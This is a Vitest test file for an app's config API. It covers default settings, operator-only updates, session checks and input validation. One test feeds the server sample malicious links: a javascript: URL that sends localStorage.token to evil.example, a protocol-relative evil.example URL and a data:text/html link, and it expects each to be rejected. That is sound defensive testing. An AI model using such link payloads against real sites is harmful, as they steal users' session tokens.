import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { DEFAULT_APP_CONFIG } from '../../src/plugins/app/platform/app-config-defaults.ts';
import { SECTION_TITLES } from '../../src/seed/section-titles.ts';
import {
  BACKENDS,
  buildTestApp,
  OPERATOR,
  PUBLIC_API_URL,
  signIn,
  type TestApp,
} from '../helpers/app.ts';

interface ConfigBody {
  valid: boolean;
  item: Record<string, unknown> & {
    web_main_navigation: {
      items: { title: string; linkto: string; icon: string; order: number; active: boolean }[];
    };
    moreLinkItems: {
      items: { title: string; linkto: string; external: boolean; active: boolean; order: number }[];
    };
    onboardingSettings: { desktopNavLogoUrl: string; webFaviconUrl: string };
    userProfileDefaultImageUrl: string;
  };
}

/** SPEC §3 "App config". */
const APP_CONFIG_FIELDS = [
  'appName',
  'applicationSlug',
  'defaultColumnCount',
  'defaultMaxItemCount',
  'homeTabItemName',
  'web_main_navigation',
  'moreLinkItems',
  'homePageConfig',
  'livestreamAlbumIds',
  'onboardingSettings',
  'browseview',
  'preferredColorScheme',
  'userProfileDefaultImageUrl',
];

describe.each(BACKENDS)('sirqul config (%s)', (backend) => {
  let t: TestApp;
  beforeEach(async () => {
    t = await buildTestApp(backend);
  });
  afterEach(async () => {
    await t.close();
  });

  const getConfig = async () => {
    const response = await t.app.inject({
      method: 'GET',
      url: '/api/sirqul/appconfig?latitude=39.8&longitude=-98.5',
    });
    expect(response.statusCode).toBe(200);
    return response.json<ConfigBody>();
  };

  it('serves the full default app config without a session', async () => {
    const { valid, item } = await getConfig();
    expect(valid).toBe(true);
    for (const field of APP_CONFIG_FIELDS) expect(item, field).toHaveProperty(field);
    expect(item).toMatchObject({
      appName: 'Canopy',
      applicationSlug: 'canopy',
      defaultColumnCount: 3,
      defaultMaxItemCount: 100,
      browseview: { title: 'Canopy' },
      preferredColorScheme: 'light',
    });
    // The seed names its live stream, so the Live badge has something to show.
    const live = await t.db.query<{ id: number }>(
      "SELECT id FROM albums WHERE album_type = 'livestream' AND title = $1",
      [SECTION_TITLES.live],
    );
    expect(item.livestreamAlbumIds).toEqual([live[0]?.id]);
    expect(item.web_main_navigation.items.map((entry) => entry.linkto)).toEqual([
      '/browse/activity-wall',
      '/browse/discover',
      '/browse/chat',
      '/browse/notifications',
      '/browse/marketplace',
      '/browse/quiz',
      '/browse/ai-chat',
    ]);
    for (const entry of item.web_main_navigation.items) {
      expect(entry).toMatchObject({
        active: true,
        icon: expect.any(String),
        order: expect.any(Number),
      });
    }
    const titles = item.moreLinkItems.items.map((entry) => entry.title);
    expect(titles).toEqual(
      expect.arrayContaining(['Share The App', 'Privacy Policy', 'Terms and Conditions']),
    );
    expect(
      item.moreLinkItems.items.some(
        (entry) => entry.external && entry.linkto.startsWith('https://'),
      ),
    ).toBe(true);
  });

  it('points logo, favicon and default avatar at images the API serves', async () => {
    const { item } = await getConfig();
    const urls = [
      item.onboardingSettings.desktopNavLogoUrl,
      item.onboardingSettings.webFaviconUrl,
      item.userProfileDefaultImageUrl,
    ];
    for (const url of urls) {
      expect(url.startsWith(`${PUBLIC_API_URL}/media/`)).toBe(true);
      const image = await t.app.inject({ method: 'GET', url: url.slice(PUBLIC_API_URL.length) });
      expect(image.statusCode).toBe(200);
      expect(image.headers['content-type']).toContain('image/svg+xml');
    }
  });

  it('serves the switch config without a session', async () => {
    const response = await t.app.inject({ method: 'GET', url: '/api/sirqul/switchconfig' });
    expect(response.json()).toEqual({
      valid: true,
      message: 'ok',
      item: { sourceSettings: { serviceSource: 'canopy' }, stateSource: 'server' },
    });
  });

  describe('changing the config', () => {
    const changed = {
      ...DEFAULT_APP_CONFIG,
      appName: 'Canopy Night',
      preferredColorScheme: 'dark',
      homeTabItemName: 'Discover',
      livestreamAlbumIds: [3],
      onboardingSettings: {
        desktopNavLogoUrl: 'https://cdn.example.com/logo.svg',
        webFaviconUrl: '/media/favicon.svg',
      },
      latitude: 39.8,
      longitude: -98.5,
    };

    it('lets the operator replace it, and everyone sees the change', async () => {
      const { headers } = await signIn(t.app, OPERATOR);
      const response = await t.app.inject({
        method: 'PUT',
        url: '/api/sirqul/appconfig',
        headers,
        payload: changed,
      });
      expect(response.statusCode).toBe(200);
      expect(response.json()).toMatchObject({ valid: true, item: { appName: 'Canopy Night' } });
      const { item } = await getConfig();
      expect(item).toMatchObject({
        appName: 'Canopy Night',
        preferredColorScheme: 'dark',
        homeTabItemName: 'Discover',
        livestreamAlbumIds: [3],
        onboardingSettings: {
          desktopNavLogoUrl: 'https://cdn.example.com/logo.svg',
          webFaviconUrl: `${PUBLIC_API_URL}/media/favicon.svg`,
        },
      });
      expect(item).not.toHaveProperty('latitude');
    });

    it('answers 404 to a member who is not an operator and leaves the config alone', async () => {
      const { headers } = await signIn(t.app);
      const response = await t.app.inject({
        method: 'PUT',
        url: '/api/sirqul/appconfig',
        headers,
        payload: changed,
      });
      expect(response.statusCode).toBe(404);
      expect(response.json()).toMatchObject({ valid: false, errorCode: 'NOT_FOUND' });
      expect((await getConfig()).item.appName).toBe('Canopy');
    });

    it('needs a session', async () => {
      const response = await t.app.inject({
        method: 'PUT',
        url: '/api/sirqul/appconfig',
        payload: changed,
      });
      expect(response.statusCode).toBe(403);
      expect(response.json()).toMatchObject({ valid: false, errorCode: 'SESSION_INVALID' });
    });

    it('validates the replacement', async () => {
      const { headers } = await signIn(t.app, OPERATOR);
      const { appName: _omitted, ...withoutName } = changed;
      for (const [payload, message] of [
        [withoutName, 'body/appName is required'],
        [
          { ...changed, preferredColorScheme: 'purple' },
          'body/preferredColorScheme must be one of "light", "dark"',
        ],
        [{ ...changed, defaultColumnCount: 'three' }, 'body/defaultColumnCount must be integer'],
      ] as const) {
        const response = await t.app.inject({
          method: 'PUT',
          url: '/api/sirqul/appconfig',
          headers,
          payload,
        });
        expect(response.statusCode).toBe(400);
        expect(response.json<{ message: string }>().message).toContain(message);
      }
      expect((await getConfig()).item.appName).toBe('Canopy');
    });

    it('refuses a link that is not http(s) or a path of this app, naming the field', async () => {
      const { headers } = await signIn(t.app, OPERATOR);
      const nav = structuredClone(changed.web_main_navigation);
      nav.items[0]!.linkto = 'javascript:fetch("//evil.example/?"+localStorage.token)';
      for (const [payload, field] of [
        [{ ...changed, web_main_navigation: nav }, 'body/web_main_navigation/items/0/linkto'],
        [
          {
            ...changed,
            onboardingSettings: {
              desktopNavLogoUrl: '//evil.example/logo.svg',
              webFaviconUrl: '/media/favicon.svg',
            },
          },
          'body/onboardingSettings/desktopNavLogoUrl',
        ],
        [{ ...changed, cta: { ctaLink: 'data:text/html,<form>' } }, 'body/cta/ctaLink'],
      ] as const) {
        const response = await t.app.inject({
          method: 'PUT',
          url: '/api/sirqul/appconfig',
          headers,
          payload,
        });
        expect(response.statusCode, field).toBe(400);
        expect(response.json()).toEqual({
          valid: false,
          message: `${field} must be an http(s) URL or a path of this app starting with / or #/.`,
          errorCode: 'VALIDATION_ERROR',
        });
      }
      expect((await getConfig()).item.appName).toBe('Canopy');
    });
  });
});
